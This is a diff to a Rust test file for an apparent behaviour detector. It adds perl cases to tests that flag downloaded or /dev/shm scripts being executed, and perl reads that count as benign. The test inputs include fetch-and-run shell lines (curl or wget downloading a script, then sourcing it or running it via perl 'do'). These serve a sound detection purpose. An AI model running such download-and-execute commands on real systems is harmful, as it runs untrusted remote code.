@@ -1758,25 +1758,36 @@ fn scripts_sourced_by_the_running_shell() {
         detect(run(Command::new(shell).arg(&path).current_dir(&dir.0)))
     };
     let what = "script read by a running shell";
+    let by_perl = "script read by a running interpreter";
     let download = "behaviour-download-exec";
-    for (name, shell, body, writer) in [
+    for (name, shell, body, writer, read) in [
         (
             "curl-dot",
             "/bin/bash",
             format!("curl -s -o x1.sh {url}/x.sh\n. ./x1.sh"),
             "/usr/bin/curl",
+            what,
         ),
         (
             "wget-source",
             "/bin/bash",
             format!("wget -q -O x2.sh {url}/x.sh\nsource x2.sh"),
             "/usr/bin/wget",
+            what,
         ),
         (
             "curl-dot-dash",
             "/bin/sh",
             format!("curl -s -o x3.sh {url}/x.sh\n. ./x3.sh\necho done"),
             "/usr/bin/curl",
+            what,
+        ),
+        (
+            "curl-perl-do",
+            "/bin/bash",
+            format!("curl -s -o x4.pl {url}/x.pl\nperl -e 'do \"./x4.pl\"'"),
+            "/usr/bin/curl",
+            by_perl,
         ),
     ] {
         let found = script(shell, &format!("{name}.sh"), &body);
@@ -1784,12 +1795,12 @@ fn scripts_sourced_by_the_running_shell() {
         assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
         assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
         assert_eq!(f[0].context.additional["downloadedBy"], writer, "{name}");
-        assert_eq!(f[0].context.additional["executedFile"], what, "{name}");
+        assert_eq!(f[0].context.additional["executedFile"], read, "{name}");
         assert!(
-            f[0].context
-                .file_path
-                .as_deref()
-                .is_some_and(|p| p.starts_with(dir.0.to_str().unwrap_or("-")) && p.ends_with(".sh")),
+            f[0].context.file_path.as_deref().is_some_and(|p| {
+                p.starts_with(dir.0.to_str().unwrap_or("-"))
+                    && (p.ends_with(".sh") || p.ends_with(".pl"))
+            }),
             "{name}: {:?}",
             f[0].context.file_path
         );
@@ -1798,6 +1809,11 @@ fn scripts_sourced_by_the_running_shell() {
     for (name, shell, body) in [
         ("shm-dot", "/bin/bash", format!(". {shm_script}")),
         ("shm-source", "/bin/bash", format!("source {shm_script}")),
+        (
+            "shm-perl-do",
+            "/bin/bash",
+            format!("perl -e 'do \"{shm_script}\"'"),
+        ),
         (
             "shm-dot-dash",
             "/bin/sh",
@@ -1809,12 +1825,14 @@ fn scripts_sourced_by_the_running_shell() {
         assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
         assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{name}");
         assert_eq!(f[0].context.file_path.as_deref(), Some(shm_script.as_str()));
-        assert_eq!(f[0].context.additional["executedFile"], what, "{name}");
+        let read = if name.contains("perl") { by_perl } else { what };
+        assert_eq!(f[0].context.additional["executedFile"], read, "{name}");
     }
     // Benign: a download read as data by bash (redirections, `$(< f)`, `exec 3< f` and
     // `read -u 3`: bash sources only after an `fstat` of the fd) and by dash (a redirection
-    // dup2s the fd), by a program that is not a shell, by python; a script the shell wrote
-    // itself; /dev/shm data redirected into a loop or read by cat.
+    // dup2s the fd), by a program that is not a shell, by python, by perl (`-n`, `open`: perl
+    // `fstat`s a data file, not one it runs); a script the shell wrote itself; /dev/shm data
+    // redirected into a loop or read by cat.
     for (name, shell, body) in [
         (
             "read-loop",
@@ -1824,7 +1842,8 @@ fn scripts_sourced_by_the_running_shell() {
                  read -r v < list.txt\nmapfile -t a < list.txt\ngrep -q x list.txt\n\
                  v=$(< list.txt)\nexec 3< list.txt\nwhile read -r -u 3 l; do :; done\n\
                  exec 3<&-\nls >/dev/null\n\
-                 python3 -c \"import json; json.load(open('list.txt'))\"\ncat list.txt >/dev/null"
+                 python3 -c \"import json; json.load(open('list.txt'))\"\ncat list.txt >/dev/null\n\
+                 perl -ne 1 list.txt\nperl -e 'open(my $f, \"<\", \"list.txt\"); my @l = <$f>'"
             ),
         ),
         (
